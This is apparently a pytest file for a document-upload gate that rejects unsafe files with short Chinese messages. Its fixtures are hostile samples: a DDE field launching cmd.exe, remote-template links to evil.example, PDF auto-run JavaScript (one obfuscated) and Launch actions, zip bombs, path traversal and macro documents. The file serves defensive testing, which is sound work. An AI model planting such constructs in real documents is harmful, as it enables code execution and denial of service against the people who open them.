"""What the gate refuses, each with a sentence that says what to do; quickly, and without unfolding it."""

from __future__ import annotations

import re
import time

import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from documents.receiving import receive
from policy_models.errors import FileRefused
from policy_models.files import MEGABYTE, Limits, Received
from tests.corpus import builders as make

pytestmark = pytest.mark.thorough


def came(name: str, data: bytes) -> Received:
    return receive(name, data, limits=Limits())


def of_type(data: bytes, old: bytes, new: bytes) -> bytes:
    return make.word_with(old, new, data, "[Content_Types].xml")


def related(kind: str, target: str, *, outside: bool = True) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    added = f'<Relationship Id="rId99" Type="http://x/relationships/{kind}" Target="{target}"{mode}/></Relationships>'
    return make.word_with(b"</Relationships>", added.encode(), make.word("正文"), "word/_rels/document.xml.rels")


def field(code: str) -> bytes:
    inside = f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p><w:sectPr".encode()
    return make.word_with(b"<w:sectPr", inside, make.word("正文"))


def encrypted_pdf(owner_only: bool = False) -> bytes:
    return make.pdf_with(make.pdf("正文"), lambda w: w.encrypt("" if owner_only else "a", "b", algorithm="RC4-128"))


def script_pdf(writer: PdfWriter) -> None:
    writer.add_open_action(JavaScript("app.alert(1)"))


def many(entries: int) -> bytes:
    return make.zipped(
        [*make.unzipped(make.word("正文")).items(), *((f"word/media/{n}.bin", b"x") for n in range(entries))]
    )


def twice() -> bytes:
    with pytest.warns(UserWarning, match="Duplicate name"):
        return make.zipped([*make.unzipped(make.word("正文")).items(), ("word/document.xml", b"<a/>")])


def with_flag(data: bytes) -> bytes:
    """Every entry says that it is encrypted."""
    return re.sub(rb"(PK\x01\x02.{4}|PK\x03\x04..)..", lambda found: found[1] + b"\x01\x00", data, flags=re.DOTALL)


ENTITY = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;&b;</a>'
MACRO_TYPE = b"application/vnd.ms-word.document.macroEnabled.main+xml"
WORD_TYPE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_TYPE = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
DOC, XLS = make.compound("WordDocument"), make.compound("Workbook")
REFUSED = {
    "empty": (lambda: b"", "空的"),
    "program": (lambda: b"MZ\x90\x00" + bytes(100), "程序"),
    "linux program": (lambda: b"\x7fELF" + bytes(100), "程序"),
    "shell script": (lambda: b"#!/bin/sh\nrm -rf x\n", "程序"),
    "batch": (lambda: b"@echo off\r\ndel x", "程序"),
    "shortcut": (lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(60), "程序"),
    "page": (lambda: b"<!DOCTYPE html><html></html>", "网页"),
    "page as table": (lambda: b"<html xmlns:x='excel'><table></table></html>", "网页"),
    "picture with script": (lambda: b"<?xml version='1.0'?><svg onload='x()'/>", "网页"),
    "archived page": (lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n", "网页"),
    "rtf": (lambda: b"{\\rtf1 a}", "RTF"),
    "gif": (lambda: b"GIF89a" + bytes(50), "jpg"),
    "webp": (lambda: b"RIFF\x10\0\0\0WEBPVP8 ", "jpg"),
    "avif": (lambda: b"\0\0\0\x1cftypavif" + bytes(20), "jpg"),
    "film": (lambda: b"\0\0\0\x1cftypisom" + bytes(20), "无法识别"),
    "zip": (lambda: make.zipped([("a.txt", b"a")]), "压缩包"),
    "rar": (lambda: b"Rar!\x1a\x07\x01\0" + bytes(20), "压缩包"),
    "7z": (lambda: b"7z\xbc\xaf\x27\x1c" + bytes(20), "压缩包"),
    "gzip": (lambda: b"\x1f\x8b\x08" + bytes(20), "压缩包"),
    "text": (lambda: "本月走访35人次".encode(), "纯文本"),
    "binary": (lambda: bytes(range(256)) * 4, "无法识别"),
    "doc": (lambda: DOC, ".docx"),
    "xls": (lambda: XLS, ".xlsx"),
    "encrypted office": (lambda: make.compound("EncryptedPackage", "EncryptionInfo"), "密码"),
    "doc with macros": (lambda: make.compound("WordDocument", "Macros"), "宏"),
    "encrypted doc": (lambda: make.compound("WordDocument", header=b"\xec\xa5\xc1\0" + bytes(6) + b"\0\x01" + bytes(20)), "密码"),
    "another compound file": (lambda: make.compound("Mail"), "无法识别"),
    "broken compound file": (lambda: DOC[:600], "损坏"),
    "macro document": (lambda: of_type(make.word("正文"), WORD_TYPE, MACRO_TYPE), "宏"),
    "macros in a docx": (lambda: make.packed_with(make.word("正文"), **{"word__vbaProject.bin": b"x"}), "宏"),
    "macro workbook": (lambda: of_type(make.workbook([["a"]]), SHEET_TYPE, b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "宏"),
    "binary workbook": (lambda: of_type(make.workbook([["a"]]), SHEET_TYPE, b"application/vnd.ms-excel.sheet.binary.macroEnabled.main"), "宏"),
    "old macro sheet": (lambda: make.packed_with(make.workbook([["a"]]), **{"xl__macrosheets__sheet1.xml": b"<a/>"}), "宏"),
    "slides": (lambda: of_type(make.word("正文"), WORD_TYPE, WORD_TYPE.replace(b"wordprocessingml.document", b"presentationml.presentation")), "Office"),
    "embedded object": (lambda: make.packed_with(make.word("正文"), **{"word__embeddings__oleObject1.bin": make.compound("Ole")}), "内嵌"),
    "embedded document": (lambda: make.packed_with(make.word("正文"), **{"word__embeddings__a.docx": make.word("内")}), "内嵌"),
    "control": (lambda: make.packed_with(make.word("正文"), **{"word__activeX__activeX1.xml": b"<a/>"}), "内嵌"),
    "archive inside": (lambda: make.packed_with(make.word("正文"), **{"word__media__a.png": make.zipped([("a", b"a")])}), "内嵌"),
    "program inside": (lambda: make.packed_with(make.word("正文"), **{"word__media__a.png": b"MZ\x90\0"}), "内嵌"),
    "remote template": (lambda: related("attachedTemplate", "http://evil.example/a.dotm"), "外部"),
    "template on a share": (lambda: related("attachedTemplate", "file://///host/a.dotm"), "外部"),
    "remote picture": (lambda: related("image", "https://evil.example/a.png"), "外部"),
    "linked object": (lambda: related("oleObject", "file:///C:/a.xlsx"), "外部"),
    "imported page": (lambda: related("aFChunk", "a.html", outside=False), "内嵌"),
    "dde": (lambda: field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), "DDE"),
    "entities": (lambda: make.packed_with(make.word("正文"), **{"customXml__item1.xml": ENTITY}), "损坏"),
    "broken xml": (lambda: make.word_with(b"</w:body>", b"", make.word("正文")), "损坏"),
    "half a docx": (lambda: make.word("正文")[:-3000], "损坏"),
    "half a workbook": (lambda: make.workbook([["a"]])[:1500], "损坏"),
    "bomb": (lambda: make.bomb(300 * MEGABYTE), "解压后过大"),
    "small bomb": (lambda: make.bomb(30 * MEGABYTE), "解压后过大"),
    "bomb in a workbook inside": (lambda: make.packed_with(make.word("正文"), **{"word__embeddings__a.xlsx": make.bomb(40 * MEGABYTE)}), "解压后过大"),
    "many entries": (lambda: many(5001), "解压后过大"),
    "more than it says": (lambda: make.lying(make.bomb(30 * MEGABYTE), "word/media/image1.bin", 100), "损坏"),
    "less than it says": (lambda: make.lying(make.word("正文"), "word/styles.xml", 900_000), "损坏"),
    "the same entry twice": (twice, "损坏"),
    "path outside": (lambda: make.packed_with(make.word("正文"), **{"..__..__a.txt": b"a"}), "损坏"),
    "zip with a password": (lambda: with_flag(make.word("正文")), "密码"),
    "encrypted pdf": (encrypted_pdf, "密码"),
    "restricted pdf": (lambda: encrypted_pdf(owner_only=True), "密码"),
    "pdf with a script": (lambda: make.pdf_with(make.pdf("正文"), script_pdf), "脚本"),
    "pdf with a script on opening": (lambda: make.pdf("正文", catalog=b"/OpenAction<</S/JavaScript/JS(app.alert)>>"), "脚本"),
    "pdf with a script in disguise": (lambda: make.pdf("正文", page=b"/AA<</O<</S/J#61vaScript/#4aS(app.alert)>>>>"), "脚本"),
    "pdf that starts a program": (lambda: make.pdf("正文", catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "脚本"),
    "pdf with a file": (lambda: make.pdf_with(make.pdf("正文"), lambda w: w.add_attachment("a.exe", b"MZ") and None), "附件"),
    "half a pdf": (lambda: make.pdf("正文" * 500)[:900], "损坏"),
    "pdf without pages": (lambda: make.pdf(), "损坏"),
    "half a photo": (lambda: make.photo()[:3000], "损坏"),
    "half a png": (lambda: make.png()[:200], "损坏"),
    "half a heic": (lambda: (make.CORPUS / "gps.heic").read_bytes()[:700], "损坏"),
    "png of too many pixels": (lambda: make.png_of(30_000, 30_000), "像素过多"),
    "png of just too many pixels": (lambda: make.png_of(10_000, 8_001), "像素过多"),
}  # fmt: skip


@pytest.mark.parametrize("what", REFUSED)
def test_what_is_refused(what: str) -> None:
    build, word = REFUSED[what]
    data = build()
    with pytest.raises(FileRefused, match=word) as refused:
        came("总结.docx", data)
    sentence = str(refused.value)
    assert "\n" not in sentence
    assert len(sentence) < 100


def test_refusals_are_quick_and_small() -> None:
    bomb = make.bomb(300 * MEGABYTE)
    started = time.process_time()
    with pytest.raises(FileRefused):
        came("a.docx", bomb)
    assert time.process_time() - started < 0.5


def test_entries_that_lie_upon_each_other() -> None:
    """The bomb without nesting: many names of the directory point at one and the same entry."""
    data = make.bomb(1 * MEGABYTE)
    directory = data.rindex(b"PK\x01\x02")
    last, rest = data[directory : data.rindex(b"PK\x05\x06")], data[data.rindex(b"PK\x05\x06") :]
    renamed = b"".join(last.replace(b"image1", b"image%d" % n) for n in range(2, 6))
    count = int.from_bytes(rest[10:12], "little") + 4
    size = int.from_bytes(rest[12:16], "little") + len(renamed)
    end = rest[:8] + count.to_bytes(2, "little") * 2 + size.to_bytes(4, "little") + rest[16:]
    with pytest.raises(FileRefused, match="解压后过大"):
        came("a.docx", data[: directory + len(last)] + renamed + end)


@pytest.mark.parametrize(
    ("target", "kind"),
    [
        ("file:///C:/Users/a/Normal.dotm", "attachedTemplate"),
        ("https://www.baotou.gov.cn/", "hyperlink"),
        ("mailto:a@b.cn", "hyperlink"),
    ],
)
def test_links_that_word_itself_makes_are_no_danger(target: str, kind: str) -> None:
    assert came("a.docx", related(kind, target)).findings == ()


def test_an_annotation_may_not_act_either() -> None:
    def act(writer: PdfWriter) -> None:
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")}
        )
        link = DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action})
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])

    with pytest.raises(FileRefused, match="脚本"):
        came("a.pdf", make.pdf_with(make.pdf("正文"), act))
